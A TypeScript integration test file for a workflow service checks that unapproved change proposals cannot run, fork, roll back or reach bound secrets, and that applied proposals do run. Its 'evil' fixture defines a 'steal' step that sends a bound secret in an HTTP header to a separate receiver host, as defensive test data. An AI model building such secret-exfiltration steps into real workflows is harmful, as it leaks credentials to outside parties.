// A run walks a version of its workflow's history. What was only proposed is read and walked without effects, and does
// not run, by whatever way a version is named; and a secret that is bound to the workflow is not given to it.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WriteAccess } from '../../../src/client/temporal/access.ts';
import { updateActor } from '../../../src/client/temporal/actor-calls.ts';
import { definitionId } from '../../../src/client/temporal/ids.ts';
import { storeVersion } from '../../../src/client/versions/versions.ts';
import { DEFINITION_WORKFLOW, type DefinitionStart } from '../../../src/contract/actors.ts';
import { RUN_WORKFLOW, type RunInput } from '../../../src/contract/run/run.ts';
import type { Definition } from '../../../src/definition/document/types.ts';
import type { Json, JsonObject } from '../../../src/json/json.ts';
import { type TestServer as HttpServer, serve } from '../../activities/server.ts';
import { writeAccess } from '../../support/temporal.ts';
import { type Answer, type TestGateway, testGateway, unique } from '../gateway/gateway-support.ts';

const VALUE = 'canary-of-what-was-approved';

let gateway: TestGateway;
let receiver: HttpServer;
let over: WriteAccess;
const keys: { [role: string]: string } = {};

beforeAll(async () => {
  receiver = await serve((_seen, response) => void response.end('ok'));
  gateway = await testGateway({
    SIGNALBOX_ADMIN_KEY: 'an-admin-of-the-environment-0123456789',
    SIGNALBOX_HTTP_ALLOW: '127.0.0.0/8',
  });
  over = writeAccess(gateway.server);
  for (const role of ['viewer', 'runner', 'approver', 'editor']) {
    keys[role] = await gateway.makeKey({ name: unique(role), role });
  }
});
afterAll(async () => {
  await gateway.close();
  await receiver.close();
});

const as = (role: string, method: string, path: string, json?: Json): Promise<Answer> =>
  gateway.request(method, path, {
    headers: { authorization: `Bearer ${keys[role]}` },
    ...(json === undefined ? {} : { json }),
  });
const done = async (answer: Promise<Answer>) => {
  const { status, body } = await answer;
  expect(status, JSON.stringify(body)).toBeLessThan(300);
  return body;
};

const about = (slug: string, more: JsonObject = {}): JsonObject => ({
  name: slug,
  slug,
  constraints: { allowSelfModification: true },
  steps: { done: { stepType: 'finish', config: { output: 'approved' } } },
  ...more,
});
/** Sends the secret to another host. */
const evil = (slug: string, secret = 'none', description = 'evil'): JsonObject =>
  about(slug, {
    description,
    config: { secrets: { K: secret } },
    steps: {
      steal: {
        stepType: 'http',
        config: { url: receiver.url, headers: { 'x-key': '{{ secrets.K }}' } },
        nextSteps: { success: 'done' },
      },
      done: { stepType: 'finish', config: { output: 'evil' } },
    },
  });
const received = () => receiver.seen.filter(({ headers }) => headers['x-key'] === VALUE).length;

const store = (slug: string, definition: JsonObject = about(slug)) =>
  done(as('editor', 'PUT', `/api/workflows/${slug}`, definition));
const propose = async (slug: string, baseWorkflowHash: string, proposal: JsonObject) =>
  done(as('runner', 'POST', `/api/workflows/${slug}/proposals`, { baseWorkflowHash, proposal }));
const review = (slug: string, id: string, decision: string) =>
  done(as('approver', 'POST', `/api/workflows/${slug}/proposals/${id}/review`, { decision }));
const run = (slug: string, version: string) =>
  as('runner', 'POST', '/api/triggers/manual/run?wait=15', { workflowId: slug, version });
const NOT_FOUND = { status: 404, body: { code: 'version_not_found' } };

/** A workflow with a proposal that has come to a state in which nobody has approved and applied it. */
const STATES: { readonly [state: string]: (slug: string) => Promise<{ id: string; hash: string }> } = {
  open: async (slug) => {
    const { hash } = await store(slug);
    const { id, proposalHash } = await propose(slug, hash, evil(slug));
    return { id, hash: proposalHash };
  },
  approved: async (slug) => {
    const { id, hash } = await reach('open', slug);
    await review(slug, id, 'approve');
    return { id, hash };
  },
  rejected: async (slug) => {
    const { id, hash } = await reach('open', slug);
    await review(slug, id, 'reject');
    return { id, hash };
  },
  failed: async (slug) => {
    const { id, hash } = await reach('approved', slug);
    await store(slug, about(slug, { description: 'changed meanwhile' }));
    expect((await as('editor', 'POST', `/api/workflows/${slug}/proposals/${id}/apply`)).status).toBe(409);
    return { id, hash };
  },
  expired: async (slug) => {
    await gateway.server.client.workflow.start<(start: DefinitionStart) => Promise<void>>(DEFINITION_WORKFLOW, {
      workflowId: definitionId('default', slug),
      taskQueue: gateway.server.taskQueue,
      args: [{ organizationId: 'default', slug, historyLimit: 1_000, proposalMs: 1 }],
    });
    return reach('open', slug);
  },
};
const reach = (state: string, slug: string) => (STATES[state] as NonNullable<(typeof STATES)[string]>)(slug);

describe.each(['open', 'approved', 'rejected', 'failed', 'expired'])('a proposal that is %s', (state) => {
  it('is read by viewers, and does not run by its hash', async () => {
    const slug = unique('proposed');
    const { id, hash } = await reach(state, slug);
    const path = `/api/workflows/${slug}`;
    const shown = await done(as('viewer', 'GET', `${path}/proposals/${id}`));
    expect(shown.status).toBe(state === 'open' ? 'pending' : state);
    const read = await done(as('viewer', 'GET', `${path}/history/${hash}`));
    expect(read.definition.description).toBe('evil');
    await done(as('viewer', 'GET', `${path}/graph?hash=${hash}`));
    await done(as('viewer', 'GET', `${path}/text?hash=${hash}`));

    expect(await run(slug, hash)).toMatchObject(NOT_FOUND);
    expect(await run(slug, hash.slice('sha256:'.length))).toMatchObject(NOT_FOUND);
    const rollback = await as('editor', 'POST', `${path}/rollback`, { workflowHash: hash });
    expect(rollback).toMatchObject(NOT_FOUND);
    expect(
      (await done(as('viewer', 'GET', `${path}/history`))).items.map((one: Json) => (one as JsonObject)['hash']),
    ).not.toContain(hash);
  });
});

it('a proposal that was applied runs by its hash, and so does the version before it', async () => {
  const slug = unique('applied');
  const { hash: before } = await store(slug);
  const next = about(slug, { steps: { done: { stepType: 'finish', config: { output: 'next' } } } });
  const { id, proposalHash } = await propose(slug, before, next);
  await review(slug, id, 'approve');
  await done(as('editor', 'POST', `/api/workflows/${slug}/proposals/${id}/apply`));
  expect((await done(run(slug, proposalHash))).output).toBe('next');
  expect((await done(run(slug, before))).output).toBe('approved');
});

it('neither a child, nor a fork, nor a tool of MCP runs a proposal by its hash', async () => {
  const slug = unique('named');
  const { hash } = await reach('rejected', slug);
  const parent = unique('parent');
  await store(parent, {
    name: parent,
    slug: parent,
    steps: { child: { stepType: 'run_workflow', config: { workflow: slug, version: hash } } },
  });
  const child = await done(as('runner', 'POST', '/api/triggers/manual/run?wait=15', { workflowId: parent }));
  expect(child).toMatchObject({ status: 'failed', error: { code: 'version_not_found' } });

  const { executionId } = await done(as('runner', 'POST', '/api/triggers/manual/run?wait=15', { workflowId: slug }));
  const fork = await as('editor', 'POST', `/api/executions/${executionId}/fork`, { version: hash });
  expect(fork).toMatchObject(NOT_FOUND);

  const call = await gateway.request('POST', '/mcp', {
    headers: { authorization: `Bearer ${keys['runner']}`, accept: 'application/json, text/event-stream' },
    json: {
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: 'COLLECTION_WORKFLOW_EXECUTION_CREATE', arguments: { workflowId: slug, version: hash } },
    },
  });
  expect(call.status).toBe(200);
  expect(JSON.stringify(call.body)).toContain('version_not_found');
});

describe('a proposal that an earlier version has stored as a version', () => {
  async function stored() {
    const [slug, secret] = [unique('earlier'), unique('bound')];
    await done(as('editor', 'PUT', `/api/secrets/${secret}`, { value: VALUE, allowedWorkflows: [slug] }));
    const { hash: base } = await store(slug);
    // Its hash, and then what an earlier version would have stored.
    const { id, proposalHash: hash } = await propose(slug, base, evil(slug, secret));
    const { definition } = await done(as('viewer', 'GET', `/api/workflows/${slug}/history/${hash}`));
    await storeVersion(over, 'default', hash, definition as Definition);
    return { slug, base, hash, id, definition: definition as Definition };
  }

  it('does not run, and is neither a version to read once it is gone from the list', async () => {
    const { slug, base, hash, definition } = await stored();
    expect(await run(slug, hash)).toMatchObject(NOT_FOUND);
    const other = unique('unlisted');
    await store(other);
    await storeVersion(over, 'default', hash, { ...definition, slug: other });
    for (const path of [`history/${hash}`, `graph?hash=${hash}`, `text?hash=${hash}`, `diff?from=${hash}&to=${base}`])
      expect(await as('viewer', 'GET', `/api/workflows/${other}/${path}`), path).toMatchObject(NOT_FOUND);
    expect(await run(other, hash)).toMatchObject(NOT_FOUND);
  });

  it('gets no secret that is bound to the workflow where it runs already, and is not run again', async () => {
    const { slug, hash, definition } = await stored();
    const executionId = `run.default.${slug}.${unique('earlier')}`;
    await gateway.server.client.workflow.start<(input: RunInput) => Promise<unknown>>(RUN_WORKFLOW, {
      workflowId: executionId,
      taskQueue: gateway.server.taskQueue,
      args: [{ definition, hash, input: {}, organizationId: 'default' }],
    });
    const ended = await done(as('runner', 'GET', `/api/executions/${executionId}/result?wait=15`));
    expect(ended).toMatchObject({ status: 'failed', error: { code: 'secret_not_allowed' } });
    expect(received()).toBe(0);
    expect(await as('runner', 'POST', `/api/executions/${executionId}/retry`)).toMatchObject(NOT_FOUND);
    expect(await as('editor', 'POST', `/api/executions/${executionId}/fork`, {})).toMatchObject(NOT_FOUND);
  });

  it('can be applied, and then runs with the secret, also when another version is current', async () => {
    const { slug, hash, id } = await stored();
    await review(slug, id, 'approve');
    await done(as('editor', 'POST', `/api/workflows/${slug}/proposals/${id}/apply`));
    expect(await done(run(slug, hash))).toMatchObject({ status: 'completed', output: 'evil' });
    expect(received()).toBe(1);
    await store(slug, about(slug, { description: 'Another one.' }));
    expect(await done(run(slug, hash))).toMatchObject({ status: 'completed', output: 'evil' });
    expect(received()).toBe(2);
  });
});

it('versions that are recorded for a workflow run by their hash', async () => {
  const slug = unique('recorded');
  const { hash: base } = await store(slug);
  const { proposalHash } = await propose(slug, base, evil(slug));
  const { definition } = await done(as('viewer', 'GET', `/api/workflows/${slug}/history/${base}`));
  const recorded = `sha256:${'1'.repeat(64)}`;
  await storeVersion(over, 'default', recorded, definition as Definition);
  expect(await run(slug, recorded)).toMatchObject(NOT_FOUND);
  await updateActor(over, definitionId('default', slug), 'recordVersions', { hashes: [recorded] });
  expect(await done(run(slug, recorded))).toMatchObject({ status: 'completed', output: 'approved' });
  expect(await run(slug, proposalHash)).toMatchObject(NOT_FOUND);
});

it('who may propose walks the own proposal without effects, and may not run it', async () => {
  const slug = unique('walked');
  const { hash } = await store(slug);
  const { proposalHash } = await propose(slug, hash, evil(slug));
  const { definition } = await done(as('runner', 'GET', `/api/workflows/${slug}/history/${proposalHash}`));
  const presets = { steal: { data: {} } };
  const walked = await done(as('runner', 'POST', '/api/executions', { definition, presets, dryRun: true }));
  expect(walked).toMatchObject({ status: 'completed', output: 'evil' });
  const refused = { status: 403, body: { code: 'role_required' } };
  expect(await as('runner', 'POST', '/api/executions', { definition })).toMatchObject(refused);
  expect(await as('viewer', 'POST', '/api/executions', { definition, dryRun: true })).toMatchObject(refused);
});

it('a proposal names only a run of its organization', async () => {
  const slug = unique('named-run');
  const { hash: baseWorkflowHash } = await store(slug);
  const elsewhere = unique('elsewhere');
  const { body } = await gateway.request('POST', '/api/keys', {
    json: { name: unique('admin'), role: 'admin', organization: elsewhere },
  });
  const headers = { authorization: `Bearer ${body.key}` };
  await gateway.request('PUT', `/api/workflows/${slug}`, { headers, json: about(slug) });
  const start = { headers, json: { workflowId: slug } };
  const { executionId: foreign } = await done(gateway.request('POST', '/api/triggers/manual/run', start));
  const { executionId: own } = await done(as('runner', 'POST', '/api/triggers/manual/run', { workflowId: slug }));
  const naming = (executionId: string): JsonObject => ({ baseWorkflowHash, proposal: evil(slug), executionId });
  const path = `/api/workflows/${slug}/proposals`;
  for (const id of [foreign, `run.default.${slug}.made-up`, `def.default.${slug}`])
    expect(await as('runner', 'POST', path, naming(id)), id).toMatchObject({
      status: 404,
      body: { code: 'not_found' },
    });
  expect((await done(as('viewer', 'GET', path))).items).toEqual([]);
  expect(await done(as('runner', 'POST', path, naming(own)))).toMatchObject({ executionId: own });
});
